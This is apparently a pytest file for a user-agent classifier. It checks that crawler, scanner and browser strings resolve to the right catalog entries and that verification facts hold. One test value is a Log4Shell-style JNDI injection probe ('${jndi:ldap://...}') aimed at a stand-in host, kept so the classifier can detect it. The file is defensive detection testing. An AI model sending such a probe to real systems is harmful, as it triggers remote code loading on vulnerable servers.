"""Look-alike user agents resolve to the right, most specific entry (a spec table)."""

from __future__ import annotations

import pytest

from botguard.catalog import Catalog

LOOKALIKES = [
    # (user agent, expected entry name or None)
    ("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "Baiduspider"),
    ("Baiduspider-image+(+http://www.baidu.com/search/spider.htm)", "Baiduspider-image"),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot"),
    ("Googlebot/2.1 (+http://www.google.com/bot.html)", "Googlebot"),
    (
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.6099.199 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Googlebot",
    ),
    ("Googlebot-Image/1.0", "Googlebot-Image"),
    ("Googlebot-Video/1.0", "Googlebot-Video"),
    ("Mozilla/5.0 (compatible; Google-InspectionTool/1.0;)", "Google-InspectionTool"),
    ("AdsBot-Google (+http://www.google.com/adsbot.html)", "AdsBot-Google"),
    (
        "Mozilla/5.0 (Linux; Android 5.0; SM-G920A) AppleWebKit (KHTML, like Gecko) Chrome Mobile Safari "
        "(compatible; AdsBot-Google-Mobile; +http://www.google.com/mobile/adsbot.html)",
        "AdsBot-Google-Mobile",
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 "
        "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
        "Applebot",
    ),
    (
        "Mozilla/5.0 (compatible; Applebot-Extended/0.1; +http://www.apple.com/go/applebot)",
        "Applebot-Extended",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.1; +https://openai.com/gptbot)",
        "GPTBot",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot",
        "ChatGPT-User",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot",
        "OAI-SearchBot",
    ),
    (
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
        "(compatible; Bytespider; spider-feedback@bytedance.com)",
        "Bytespider",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
        "ClaudeBot",
    ),
    ("CCBot/2.0 (https://commoncrawl.org/faq/)", "CCBot"),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)",
        "PerplexityBot",
    ),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "facebookexternalhit"),
    (
        "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
        "meta-externalagent",
    ),
    (
        "meta-externalfetcher/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
        "meta-externalfetcher",
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 "
        "Safari/537.36; compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot",
        "Amazonbot",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) "
        "Chrome/116.0.1938.76 Safari/537.36",
        "bingbot",
    ),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "YandexBot"),
    ("Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)", "YandexImages"),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "AhrefsBot"),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", "SemrushBot"),
    ("Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", "MJ12bot"),
    ("Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)", "DotBot"),
    ("Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)", "Sogou"),
    ("LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)", "LinkedInBot"),
    (
        "Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)",
        "archive.org_bot",
    ),
    ("Mozilla/5.0 zgrab/0.x", "zgrab"),
    ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan"),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 "
        "Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Nuclei",
    ),
    ("sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap"),
    ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "Nikto"),
    ("curl/8.4.0", "curl"),
    ("Wget/1.21.4", "Wget"),
    ("python-requests/2.31.0", "python-requests"),
    ("Go-http-client/1.1", "Go-http-client"),
    ("Scrapy/2.11.0 (+https://scrapy.org)", "Scrapy"),
    ("${jndi:ldap://x.example/a}", "UA injection probe"),
    # browsers with look-alike tokens stay browsers
    (
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0; SLCC1; .NET CLR 2.0.50727; Media Center PC 5.0)",
        None,
    ),
    ("Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; SLCC2; .NET CLR 2.0.50727; rv:11.0) like Gecko", None),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
        "Snapchat/12.62.0.35 (like Safari/8617.2.4.10.8, panda)",
        None,
    ),
    (
        "Mozilla/5.0 (Linux; Android 12; SM-G998B Build/SP1A.210812.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Version/4.0 Chrome/120.0.6099.144 Mobile Safari/537.36 [Pinterest/Android]",
        None,
    ),
]


@pytest.mark.parametrize(
    ("ua", "expected"), LOOKALIKES, ids=[f"{e}:{i}" for i, (_, e) in enumerate(LOOKALIKES)]
)
def test_lookalike(catalog: Catalog, ua: str, expected: str | None) -> None:
    """Each agent resolves to its own entry, never a generic or less specific relative."""
    found = catalog.classify(ua)
    assert (found.name if found else None) == expected


def test_generic_spider_never_steals_baiduspider(catalog: Catalog) -> None:
    """A generic ``spider`` pattern exists, yet Baiduspider resolves to the named Baidu entry."""
    generic = [c for c in catalog.crawlers if c.generic and any("spider" in p.lower() for p in c.patterns)]
    assert generic
    found = catalog.classify(
        "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"
    )
    assert found is not None and found.operator == "Baidu" and not found.generic


def test_google_extended_is_a_robots_token_only(catalog: Catalog) -> None:
    """Google-Extended has no user agent: Googlebot does the fetching, the token only opts out."""
    entry = catalog.by_name("Google-Extended")
    assert entry.patterns == () and entry.robots_token == "Google-Extended"
    assert entry.category == "ai-training"
    assert (
        catalog.classify("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)").name
        == "Googlebot"
    )


@pytest.mark.parametrize(
    ("name", "token", "category", "ip_ranges", "rdns"),
    [
        ("Googlebot", "Googlebot", "search-engine", ("googlebot",), ("googlebot.com", "google.com")),
        ("bingbot", "bingbot", "search-engine", ("bingbot",), ("search.msn.com",)),
        ("Applebot", "Applebot", "search-engine", ("applebot",), ("applebot.apple.com",)),
        ("YandexBot", "Yandex", "search-engine", ("yandexbot",), ("yandex.ru", "yandex.net", "yandex.com")),
        ("Baiduspider", "Baiduspider", "search-engine", (), ("baidu.com", "baidu.jp")),
        ("GPTBot", "GPTBot", "ai-training", ("gptbot",), ()),
        ("ChatGPT-User", "ChatGPT-User", "ai-assistant", ("chatgpt-user",), ()),
        ("OAI-SearchBot", "OAI-SearchBot", "ai-search", ("oai-searchbot",), ()),
        ("ClaudeBot", "ClaudeBot", "ai-training", ("claudebot",), ()),
        ("PerplexityBot", "PerplexityBot", "ai-search", ("perplexitybot",), ()),
    ],
)
def test_verification_facts(catalog: Catalog, name, token, category, ip_ranges, rdns) -> None:
    """Key crawlers carry their robots token, category and documented verification."""
    entry = catalog.by_name(name)
    assert (entry.robots_token, entry.category) == (token, category)
    assert entry.verification is not None
    assert entry.verification.ip_ranges == ip_ranges
    assert set(rdns) <= set(entry.verification.rdns_suffixes)


def test_respects_robots_from_ai_robots_txt(catalog: Catalog) -> None:
    """ai.robots.txt's "respect" field: Bytespider does not, GPTBot does."""
    assert catalog.by_name("Bytespider").respects_robots is False
    assert catalog.by_name("GPTBot").respects_robots is True
